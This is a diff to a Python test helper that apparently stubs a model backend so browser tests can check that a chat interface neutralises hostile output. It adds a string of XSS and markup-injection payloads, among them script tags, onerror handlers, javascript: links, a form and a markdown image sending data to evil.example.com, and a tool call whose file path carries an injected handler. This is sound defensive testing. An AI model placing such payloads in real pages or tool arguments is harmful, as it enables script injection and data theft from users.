@@ -2,6 +2,7 @@
 
 from __future__ import annotations
 
+import json
 from collections.abc import Iterator
 from contextlib import contextmanager
 from dataclasses import dataclass
@@ -14,6 +15,17 @@ from support.browser import Page, open_browser
 from support.live import TOKEN, LiveGateway, live_gateway, stubbed_config
 from support.upstream import Exchange, Upstream
 
+HOSTILE = """<img src=x onerror="document.title='owned'"> <script>document.title='owned'</script>
+<a href="javascript:document.title='owned'" onclick="document.title='owned'">press</a> [too](javascript:alert(1))
+<svg onload="document.title='owned'"></svg> <iframe srcdoc="<script>top.document.title='owned'</script>"></iframe>
+<form action="https://evil.example.com"><input name=secret></form> <style>body{display:none}</style>
+![leak](https://evil.example.com/leak?q=1) <div style="position:fixed">over</div> `<b>code</b>`"""
+ATTACK = {
+    "index": 0,
+    "id": "c1",
+    "type": "function",
+    "function": {"name": "read", "arguments": json.dumps({"path": "<img src=x onerror=document.title='owned'>.txt"})},
+}
 CALL = {"index": 0, "id": "c1", "type": "function", "function": {"name": "read", "arguments": '{"path":"no.txt"}'}}
 IS_OVER = "document.querySelectorAll('.answer').length == {} && !document.querySelector('[aria-label=Stop]')"
 
@@ -30,12 +42,12 @@ def talk(exchange: Exchange) -> None:
         exchange.json(400, {"error": {"message": "the picture is too small"}})
         return
     exchange.head()
-    if verb == "think" and messages[-1]["role"] != "tool":
-        exchange.event({"reasoning_content": "Let me see."})
-        exchange.event({"tool_calls": [CALL]})
+    if verb in ("think", "attack") and messages[-1]["role"] != "tool":
+        exchange.event({"reasoning_content": "Let me see." if verb == "think" else HOSTILE})
+        exchange.event({"tool_calls": [CALL if verb == "think" else ATTACK]})
         exchange.end("tool_calls")
         return
-    for word in (text if verb == "say" else " | ".join(said)).split(" "):
+    for word in (HOSTILE if verb == "attack" else text if verb == "say" else " | ".join(said)).split(" "):
         exchange.event({"content": word + " "})
     if verb == "hold":
         exchange.wait()
